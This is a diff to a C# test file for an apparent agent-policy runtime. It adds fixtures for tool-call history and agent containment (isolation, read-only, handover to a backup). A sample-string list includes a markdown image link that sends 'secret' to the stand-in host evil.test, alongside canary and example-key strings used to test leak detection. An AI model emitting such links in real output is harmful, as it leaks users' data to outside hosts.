@@ -1,7 +1,11 @@
 using System.Collections.Frozen;
+using System.Collections.Immutable;
 using System.Text;
 using System.Text.Json;
 using Airs.Runtime.Context;
+using Airs.Runtime.Functions;
+using Airs.Runtime.Policy;
+using Airs.Runtime.Sequences;
 
 namespace Airs.Compiler.Tests.Emit;
 
@@ -20,6 +24,28 @@ internal sealed class RandomContexts(Random random)
         "call +44 20 7946 0958", "key AKIAIOSFODNN7EXAMPLE ok", "AKIA", "![x](https://evil.test/p.png?q=secret)", "see https://example.com/faq",
         "SB-CANARY-1", "SB-CANARY-42 leaked", "refund 900", "a\nb", "a.b", "axb", "x  y", "2024", "AB12", "élan", "\u2028", "😀",
     ];
+
+    private static readonly DateTimeOffset Now = new(2026, 11, 23, 12, 0, 0, TimeSpan.Zero);
+
+    /// <summary>Earlier calls of every tool with values the random arguments take, some inside and some outside the windows.</summary>
+    public static readonly ToolHistory History = new(Now,
+        [
+            .. RandomPolicies.ToolNames.SelectMany((tool, i) => new[]
+            {
+                new ToolEvent(tool, RandomPolicies.AgentNames[i % RandomPolicies.AgentNames.Length],
+                    RandomPolicies.ArgNames.ToImmutableSortedDictionary(a => a, _ => "A-1001", StringComparer.Ordinal), Now.AddMinutes(-10)),
+                new ToolEvent(tool, "planner", RandomPolicies.ArgNames.ToImmutableSortedDictionary(a => a, _ => "900", StringComparer.Ordinal), Now.AddHours(-2)),
+                new ToolEvent(tool, "ghost", ImmutableSortedDictionary<string, string>.Empty, Now.AddMinutes(-1)),
+            }),
+        ]);
+
+    /// <summary>Every kind of containment at once: one agent isolated, one read-only, one handed over to a declared backup.</summary>
+    public static readonly AgentContainment Containment = AgentContainment.For(
+        new PolicySpec("c", "1", Tier.High, null, [], [], [], [], [], [new AgentSpec("planner", [], [], [], null) { Backup = "auditor" }], [], []),
+        new PaceStateSpec(PaceLevel.Alternate, true, [], [], null)
+        {
+            AgentActions = [new(AgentAction.Isolate, "mailer"), new(AgentAction.ReadOnly, "executor"), new(AgentAction.Handover, "planner")],
+        });
 
     public RequestContext Context(IReadOnlyList<string> agents)
     {
